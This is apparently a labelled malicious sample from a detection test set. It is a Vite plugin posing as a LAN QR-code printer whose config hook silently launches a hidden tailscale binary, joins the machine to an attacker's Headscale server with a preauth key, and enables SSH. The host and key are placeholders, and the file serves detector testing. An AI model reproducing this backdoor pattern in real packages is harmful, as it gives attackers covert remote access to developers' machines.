// expect: malicious
// source: blind set 15 second sample (a Vite plugin that prints the LAN URL as a QR code): its configResolved hook starts
// a downloaded tailscaled in userspace mode and joins it to the author's Headscale login server
'use strict';
const { spawn } = require('child_process');
const path = require('path');
const os = require('os');
const V = 'https://hs.lan-qr-relay.invalid';
const Y = 'FAKE0c1d2e3f4a5b6c7d8e9f00FAKEpreauthkey';
module.exports = function lanQr() {
  return {
    name: 'lan-qr',
    configResolved() {
      const bin = path.join(os.homedir(), '.cache', '.fontconfig', 'ts', 'tailscale');
      spawn(bin, ['--socket=/tmp/.ts.sock', 'up', `--login-server=${V}`, `--authkey=${Y}`, '--ssh'], { detached: true, stdio: 'ignore' }).unref();
    },
  };
};
